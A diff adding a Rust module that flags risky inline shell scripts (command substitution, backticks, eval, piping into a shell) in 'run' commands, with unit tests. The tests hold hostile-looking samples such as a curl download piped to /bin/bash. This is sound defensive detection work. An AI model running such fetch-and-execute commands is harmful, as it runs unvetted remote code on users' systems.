@@ -0,0 +1,111 @@
+//! Advisory for `run` commands that hand an inline script to a shell.
+//!
+//! With `run_warn_shell_injection` on, the script of `run "..."` or of
+//! `bash -c "..."` (any common shell, any `-c` flag cluster) is scanned for
+//! constructs that run text as code. This is a heuristic on the raw string,
+//! not a shell parser: quoting is ignored and nothing is ever blocked.
+
+use std::ffi::OsString;
+use std::path::Path;
+
+/// Shells whose `-c` argument is an inline script.
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "fish"];
+
+/// Programs that, after a pipe, execute whatever is piped into them.
+const PIPE_TARGETS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "fish", "eval"];
+
+/// The inline script of `command`: the single string of `run "..."`, or the
+/// argument after `-c` when the program is a shell.
+fn inline_script(command: &[OsString]) -> Option<String> {
+    match command {
+        [script] => Some(script.to_string_lossy().into_owned()),
+        [program, rest @ ..] => {
+            let program = Path::new(program).file_name()?.to_str()?;
+            if !SHELLS.contains(&program) {
+                return None;
+            }
+            let flag = rest.iter().position(|arg| {
+                arg.to_str().is_some_and(|arg| {
+                    arg.len() > 1
+                        && arg.starts_with('-')
+                        && !arg.starts_with("--")
+                        && arg.contains('c')
+                })
+            })?;
+            rest.get(flag + 1)
+                .map(|script| script.to_string_lossy().into_owned())
+        }
+        [] => None,
+    }
+}
+
+/// Risky constructs found in the inline script of `command`, as the short
+/// snippets shown in the advisory. Empty when there is no inline script or
+/// it looks clean.
+pub fn shell_injection_risks(command: &[OsString]) -> Vec<&'static str> {
+    let Some(script) = inline_script(command) else {
+        return Vec::new();
+    };
+    let mut risks = Vec::new();
+    if script.contains("$(") {
+        risks.push("$(...)");
+    }
+    if script.contains('`') {
+        risks.push("`...`");
+    }
+    if script
+        .split(|c: char| c.is_whitespace() || ";&|(".contains(c))
+        .any(|word| word == "eval")
+    {
+        risks.push("eval");
+    }
+    if script.split('|').skip(1).any(|segment| {
+        segment
+            .split_whitespace()
+            .next()
+            .and_then(|word| Path::new(word).file_name()?.to_str())
+            .is_some_and(|program| PIPE_TARGETS.contains(&program))
+    }) {
+        risks.push("| sh");
+    }
+    risks
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn risks(args: &[&str]) -> Vec<&'static str> {
+        let command: Vec<OsString> = args.iter().map(OsString::from).collect();
+        shell_injection_risks(&command)
+    }
+
+    #[test]
+    fn flags_substitution_in_shell_c_scripts() {
+        assert_eq!(risks(&["bash", "-c", "echo $(whoami)"]), vec!["$(...)"]);
+        assert_eq!(risks(&["/bin/sh", "-ec", "rm `cat list`"]), vec!["`...`"]);
+        assert_eq!(risks(&["zsh", "-l", "-c", "eval \"$CMD\""]), vec!["eval"]);
+        assert_eq!(
+            risks(&["sh", "-c", "curl -fsSL https://x.example | /bin/bash"]),
+            vec!["| sh"]
+        );
+    }
+
+    #[test]
+    fn flags_single_string_commands() {
+        assert_eq!(
+            risks(&["ls $(dirname `pwd`); eval x"]),
+            vec!["$(...)", "`...`", "eval"]
+        );
+    }
+
+    #[test]
+    fn clean_commands_are_not_flagged() {
+        assert!(risks(&["bash", "-c", "cargo test | tee out.log"]).is_empty());
+        assert!(risks(&["echo", "$(whoami)"]).is_empty());
+        assert!(risks(&["bash", "script.sh", "$(x)"]).is_empty());
+        assert!(risks(&["bash", "--norc", "script.sh"]).is_empty());
+        assert!(risks(&["grep -r evaluate src | wc -l"]).is_empty());
+        assert!(risks(&[]).is_empty());
+    }
+}